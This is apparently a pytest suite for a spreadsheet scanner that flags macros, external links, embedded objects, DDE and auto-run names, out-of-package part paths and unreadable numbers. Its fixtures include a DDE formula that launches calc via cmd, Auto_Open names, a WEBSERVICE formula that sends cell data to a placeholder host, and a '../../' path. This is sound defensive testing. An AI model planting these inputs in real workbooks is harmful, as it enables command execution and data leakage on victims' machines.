"""What is active in a package is flagged however its parts are called, and a scan is right however cells are written."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
import xlsxwriter

from taizhang.books import read_workbook
from taizhang.model.grid import CellError

RELS = "xl/_rels/workbook.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"


def workbook_bytes(formula: str = "=1+1") -> bytes:
    content = BytesIO()
    book = xlsxwriter.Workbook(content, {"in_memory": True})
    sheet = book.add_worksheet("任务台账")
    sheet.write_row(0, 0, ["甲", 5])
    sheet.write_formula(1, 0, formula, None, 2)
    sheet.write_url(2, 0, "https://example.org/")
    book.define_name("一个名称", "=任务台账!$A$1")
    book.close()
    return content.getvalue()


PLAIN = workbook_bytes()


def with_parts(parts: dict[str, bytes]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(BytesIO(PLAIN)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in [name for name in old.namelist() if name not in parts]:
            new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return target.getvalue()


def part(name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(PLAIN)) as archive:
        return archive.read(name)


def related(kind: str, target: str, mode: str = "") -> bytes:
    line = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return part(RELS).replace(b"</Relationships>", line.encode())


def flags(content: bytes) -> tuple[str, tuple[str, ...]]:
    workbook = read_workbook(content, "台账.xlsx")
    return workbook.file_class, workbook.flags


@pytest.mark.parametrize(
    ("kind", "flag"),
    [
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "macro"),
        ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macro"),
        ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "macro"),
        (f"{OFFICE}/externalLink", "external-link"),
        (f"{OFFICE}/connections", "external-link"),
        (f"{OFFICE}/queryTable", "external-link"),
        (f"{OFFICE}/oleObject", "embedded-object"),
        (f"{OFFICE}/package", "embedded-object"),
        (f"{OFFICE}/control", "embedded-object"),
        ("http://schemas.microsoft.com/office/2011/relationships/webextension", "embedded-object"),
    ],
)
def test_r39_a_part_is_what_its_relation_says(kind: str, flag: str) -> None:
    content = with_parts({RELS: related(kind, "innocent.bin"), "xl/innocent.bin": b"x"})
    assert flags(content) == ("readable", (flag,))


def test_r39_a_link_to_the_outside_is_flagged_and_one_to_click_is_not() -> None:
    assert flags(PLAIN) == ("readable", ())
    outside = related(f"{OFFICE}/image", "http://example.org/a.png", ' TargetMode="External"')
    assert flags(with_parts({RELS: outside})) == ("readable", ("external-link",))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_r39_dde_is_found_under_any_name_and_encoding(encoding: str) -> None:
    link = (
        f'<?xml version="1.0" encoding="{encoding}"?><externalLink><ddeLink ddeService="cmd"/></externalLink>'
    )
    content = with_parts(
        {RELS: related(f"{OFFICE}/externalLink", "/xl/a/b.xml"), "xl/a/b.xml": link.encode(encoding)}
    )
    assert flags(content) == ("dangerous", ("dde", "external-link"))


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("x", "cmd|'/c calc'!A0", ("dangerous", ("dde",))),
        ("_xlnm.Auto_Open", "任务台账!$A$1", ("dangerous", ("auto-run", "macro"))),
        ("auto_close", "任务台账!$A$1", ("dangerous", ("auto-run", "macro"))),
    ],
)
def test_r39_names_that_run(name: str, text: str, expected: tuple[str, tuple[str, ...]]) -> None:
    new = f'<definedName name="{name}">{text}</definedName></definedNames>'.encode()
    changed = part("xl/workbook.xml").replace(b"</definedNames>", new)
    assert flags(with_parts({"xl/workbook.xml": changed})) == expected


@pytest.mark.parametrize(
    "formula",
    ['=_xlfn.WEBSERVICE("http://a/"&A1)', '=IMAGE("http://a/b.png")', '=RTD("a","b")', '=1+Call("a","b")'],
)
def test_r38_formulas_that_fetch_are_external_links(formula: str) -> None:
    assert flags(workbook_bytes(formula)) == ("readable", ("external-link",))
    assert flags(workbook_bytes("=SUM(A1:B1)+RECALL1")) == ("readable", ())


def test_r14_a_part_named_out_of_the_package_is_dangerous() -> None:
    assert flags(with_parts({"../../a": b"x"})) == ("dangerous", ())
    assert flags(with_parts({"xl/a..b": b"x"})) == ("readable", ())


@pytest.mark.parametrize("number", ["1e999", "-1e999", "nan", "9" * 400])
def test_r29_a_number_that_is_none_costs_its_cell_only(number: str) -> None:
    sheet = part(SHEET).replace(b"<v>5</v>", f"<v>{number}</v>".encode())
    workbook = read_workbook(with_parts({SHEET: sheet}), "台账.xlsx")
    assert (workbook.file_class, workbook.flags) == ("readable", ("bad-cell",))
    (grid,) = workbook.grids
    assert (grid.cells[1, 1], grid.cells[1, 2]) == ("甲", CellError("无法读取"))
